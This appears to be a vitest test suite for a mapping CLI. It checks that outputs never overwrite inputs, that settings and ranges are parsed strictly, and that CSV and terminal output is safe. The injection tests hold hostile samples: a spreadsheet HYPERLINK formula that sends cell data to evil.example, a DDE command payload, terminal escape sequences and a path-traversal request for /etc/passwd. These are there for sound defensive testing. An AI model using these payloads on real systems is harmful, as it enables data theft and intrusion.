/**
 * Robustness suite, settings and outputs (issue 9 classes 1 outputs over inputs, 5 units and ranges, 10 output
 * injection; 8 stack traces through a small sample of real CLI runs). In-process through the functions the CLI
 * calls (engine/settings.ts, data/node/output.ts, export/csv-safe.ts, export/terminal.ts); the CLI is spawned only
 * a few times (each start costs about a second).
 */
import { spawnSync } from 'node:child_process';
import { chmodSync, existsSync, linkSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import Papa from 'papaparse';
import { afterAll, describe, expect, it } from 'vitest';
import { csvField, csvText } from '../../src/lib/data/export/csv-safe';
import { terminalSafe } from '../../src/lib/data/export/terminal';
import { writeOutputFile } from '../../src/lib/data/node/output';
import { checkSettings, MINUTES_RANGE, parseLevels, parseMethod, parseMinutes, parseMode, parseTargetShare } from '../../src/lib/engine/settings';
import { FACILITY_LEVELS } from '../../src/lib/engine/types';
import { expectKejimapError, tally } from './helpers';

const count = tally();
afterAll(() => count.print('settings-outputs'));

describe('class 1: outputs never overwrite inputs', () => {
	const dir = mkdtempSync(path.join(tmpdir(), 'kj-robust-out-'));
	afterAll(() => rmSync(dir, { recursive: true, force: true }));
	const input = path.join(dir, 'facilities.csv');
	const manifest = path.join(dir, 'region.json');
	writeFileSync(input, 'name,lon,lat\n甲,121.4,31.2\n');
	writeFileSync(manifest, '{"id":"x"}');
	symlinkSync(input, path.join(dir, 'link-to-input.csv'));
	linkSync(manifest, path.join(dir, 'hardlink-to-manifest.json'));
	mkdirSync(path.join(dir, 'folder'));
	const inputs = [input, manifest];
	const before = () => [readFileSync(input, 'utf8'), readFileSync(manifest, 'utf8')];
	const refused: [string, string, string][] = [
		['the source CSV', input, 'OUTPUT_REFUSED'],
		['the manifest', manifest, 'OUTPUT_REFUSED'],
		['the manifest by a relative path', path.relative(process.cwd(), manifest), 'OUTPUT_REFUSED'],
		['the manifest by a path with ..', path.join(dir, 'folder', '..', 'region.json'), 'OUTPUT_REFUSED'],
		['a symlink to the source', path.join(dir, 'link-to-input.csv'), 'OUTPUT_REFUSED'],
		['a hard link to the manifest', path.join(dir, 'hardlink-to-manifest.json'), 'OUTPUT_REFUSED'],
		['a folder', path.join(dir, 'folder'), 'OUTPUT_REFUSED'],
		['a folder with a slash', path.join(dir, 'folder') + '/', 'OUTPUT_REFUSED'],
		['the temp folder', tmpdir(), 'OUTPUT_REFUSED'],
		['a missing folder', path.join(dir, 'nope', 'cells.csv'), 'FILE_MISSING'],
		['a file used as a folder', path.join(input, 'cells.csv'), 'OUTPUT_REFUSED'],
		['an empty path', '', 'OUTPUT_REFUSED'],
		['a 300-character name', path.join(dir, 'x'.repeat(300) + '.csv'), 'OUTPUT_REFUSED']
	];
	it.each(refused)('%s: refused in one line, inputs unchanged, nothing written', (_label, target, code) => {
		count.add('1 outputs');
		const snapshot = before();
		const files = readdirSync(dir).sort();
		expectKejimapError(() => writeOutputFile(target, 'h3\n1\n', '--cells', inputs), { code: code as never, field: '--cells' }, target);
		expect(before()).toEqual(snapshot);
		expect(readdirSync(dir).sort()).toEqual(files); // no temporary file left behind
	});
	it.skipIf(process.getuid?.() === 0)('an unwritable folder', () => {
		count.add('1 outputs');
		const ro = path.join(dir, 'ro');
		mkdirSync(ro);
		chmodSync(ro, 0o500);
		expectKejimapError(() => writeOutputFile(path.join(ro, 'c.csv'), 'x', '--cells', inputs), { code: 'OUTPUT_REFUSED' });
		chmodSync(ro, 0o700);
	});
	it('a normal path is written whole, replacing an older output', () => {
		count.add('1 outputs');
		const out = path.join(dir, 'cells.csv');
		writeFileSync(out, 'old');
		writeOutputFile(out, 'new\n', '--cells', inputs);
		expect(readFileSync(out, 'utf8')).toBe('new\n');
		expect(readdirSync(dir).filter((f) => f.endsWith('.tmp'))).toEqual([]);
	});
});

describe('class 5: one rule for units and ranges (CLI flags and link values)', () => {
	const shares: [string, number | null][] = [
		['0.9', 0.9], ['90%', 0.9], ['1', 1], ['0', 0], ['100%', 1], ['0%', 0], ['.85', 0.85], ['85.5%', 0.855], [' 0.9 ', 0.9],
		['', null], [' ', null], ['90', null], ['1.5', null], ['-0.1', null], ['-10%', null], ['101%', null], ['abc', null], ['0x10', null],
		['1e-1', null], ['Infinity', null], ['NaN', null], ['9 0', null], ['0.9%%', null], ['%90', null], ['0,9', null], ['９０%', null], ['null', null]
	];
	it.each(shares)('target %j -> %s', (text, want) => {
		count.add('5 units/ranges');
		const r = parseTargetShare(text);
		if (want === null) expect(r.ok).toBe(false);
		else expect(r.ok && r.value).toBeCloseTo(want, 12);
	});
	const minutes: [string, number | null][] = [
		['15', 15], ['1', MINUTES_RANGE.min], [String(MINUTES_RANGE.max), MINUTES_RANGE.max], ['7.5', 7.5], [' 30 ', 30],
		['', null], ['0', null], ['-15', null], ['0.5', null], [String(MINUTES_RANGE.max + 1), null], ['1e3', 1000 <= MINUTES_RANGE.max ? 1000 : null], ['abc', null], ['Infinity', null], ['15min', null], ['NaN', null]
	];
	it.each(minutes)('minutes %j -> %s', (text, want) => {
		count.add('5 units/ranges');
		const r = parseMinutes(text);
		expect(r.ok ? r.value : null).toBe(want);
	});
	const levels: [string, string[] | null][] = [
		['chc', ['chc']], ['chs,chc', ['chc', 'chs']], [' chc , chs ', ['chc', 'chs']], ['chc,chc', ['chc']], [FACILITY_LEVELS.join(','), [...FACILITY_LEVELS]],
		['CHC', null], ['chc,CHC', null], ['', null], [',', null], ['spa', null], ['chc;chs', null], ['<script>', null]
	];
	it.each(levels)('levels %j -> %j', (text, want) => {
		count.add('5 units/ranges');
		const r = parseLevels(text);
		expect(r.ok ? r.value : null).toEqual(want);
	});
	it.each(['fly', 'WALK', '', 'walk ', 'drive\n'])('mode %j is refused', (m) => {
		count.add('5 units/ranges');
		expect(parseMode(m).ok).toBe(false);
	});
	it.each(['exact', 'Auto', '', 'network,radius'])('method %j is refused', (m) => {
		count.add('5 units/ranges');
		expect(parseMethod(m).ok).toBe(false);
	});
	it.each([
		['maxMinutes', { maxMinutes: 0 }], ['maxMinutes', { maxMinutes: NaN }], ['maxMinutes', { maxMinutes: 1000 }], ['targetShare', { targetShare: 90 }],
		['targetShare', { targetShare: -1 }], ['levels', { levels: 'chc' }], ['levels', { levels: ['CHC'] }], ['mode', { mode: 'fly' }], ['method', { method: 'x' }],
		['areaModeRules', { areaModeRules: [{ areaIds: ['a'], mode: 'fly' }] }]
	])('the engine itself refuses %s %j (worker, CLI, bench)', (field, over) => {
		count.add('5 units/ranges');
		const s = { mode: 'walk', maxMinutes: 15, levels: ['chc'], targetShare: 0.9, method: 'auto', ...over };
		expectKejimapError(() => checkSettings(s as never), { code: 'BAD_ARGUMENT', field }, field);
	});
});

describe('class 10: output injection', () => {
	const hostile = [
		'=HYPERLINK("http://evil.example/?"&A1,"点击")', '=1+1', '+1+1', '-1+1', '@SUM(A1:A9)', '\t=1', '\r=1', '=cmd|\' /C calc\'!A0', "'=already quoted",
		'社区卫生服务中心', 'a,b', 'a"b', 'line\nbreak', '  =spaced', '=', '-', '+86 21 1234', '@家'
	];
	it.each(hostile)('CSV cell %j survives as text that no spreadsheet runs', (h) => {
		count.add('10 injection');
		const back = Papa.parse<string[]>(csvText(['name'], [[h]]), { header: false, skipEmptyLines: true }).data[1][0];
		expect(/^[=+\-@\t\r]/.test(back)).toBe(false);
		expect([h, `'${h}`]).toContain(back);
	});
	it('numbers stay numbers (a negative value is not a formula)', () => {
		count.add('10 injection');
		expect(csvField(-3.5)).toBe('-3.5');
	});
	const names = ['甲\u001b[31m红\u001b[0m', '\u001b]0;owned\u0007标题', '乙\u001b[2J\u001b[H', '丙\u202e反向', '丁\r覆盖', '戊\u0008\u0008', '己\u009b31m', 'tab\tname', 'new\nline'];
	it.each(names)('terminal text %j has no control characters', (n) => {
		count.add('10 injection');
		// eslint-disable-next-line no-control-regex
		expect(terminalSafe(n)).not.toMatch(/[\u0000-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/);
		expect(terminalSafe(n).replace(/\ufffd/g, '')).toContain(n.replace(/[^\u4e00-\u9fff]/g, '').slice(0, 1));
	});
});

describe('a sample through the real CLI: exit 2, one line, no stack', () => {
	const cli = (...args: string[]) => {
		const r = spawnSync(process.execPath, ['--import', 'tsx', 'scripts/coverage-cli.ts', ...args], { encoding: 'utf8', timeout: 120_000 });
		return { code: r.status, err: r.stderr.trim() };
	};
	const oneLine = (err: string) => {
		const errors = err.split('\n').filter((l) => l.startsWith('error:'));
		expect(errors).toHaveLength(1);
		expect(err).not.toMatch(/\n\s+at |node_modules|Error:/);
	};
	it.each([
		[['--region', 'shanghai', '--target', '90']],
		[['--region', 'shanghai', '--target', '']],
		[['--region', 'shanghai', '--minutes', '0']]
	])('%j', (args) => {
		count.add('5 units/ranges (CLI)');
		const r = cli(...args);
		expect(r.code).toBe(2);
		oneLine(r.err);
	});
	it.skipIf(!existsSync('data/build/shanghai/region.json'))('--cells naming the manifest: refused, the manifest unchanged', () => {
		count.add('1 outputs (CLI)');
		const before = readFileSync('data/regions/shanghai.json', 'utf8');
		const r = cli('--region', 'shanghai', '--cells', 'data/regions/shanghai.json');
		expect(r.code).toBe(2);
		oneLine(r.err);
		expect(readFileSync('data/regions/shanghai.json', 'utf8')).toBe(before);
	});
});

describe('class 8: the static server answers bad requests without a stack', () => {
	it.skipIf(!existsSync('build/index.html'))('a malformed %-escape is a plain 400, a path outside build/ a 404', async () => {
		count.add('8 stack traces (server)', 4);
		const port = 4300 + Math.floor(Math.random() * 500);
		const { spawn } = await import('node:child_process');
		const child = spawn(process.execPath, ['--import', 'tsx', 'scripts/serve.ts', '--port', String(port)], { stdio: ['ignore', 'pipe', 'pipe'] });
		try {
			await new Promise<void>((resolve, reject) => {
				child.stdout.on('data', (d: Buffer) => d.toString().includes('serving') && resolve());
				child.on('exit', (c) => reject(new Error(`server exited ${c}`)));
			});
			const get = async (p: string) => {
				const r = await fetch(`http://127.0.0.1:${port}${p}`);
				return { status: r.status, body: await r.text() };
			};
			for (const p of ['/%E0%A4%A', '/%']) {
				const r = await get(p);
				expect(r.status).toBe(400);
				expect(r.body).not.toMatch(/at |\/work\/|node_modules|Error/);
			}
			expect((await get('/%2e%2e/%2e%2e/etc/passwd')).status).toBe(404);
			expect((await get('/')).status).toBe(200);
		} finally {
			child.kill();
		}
	}, 30_000);
});
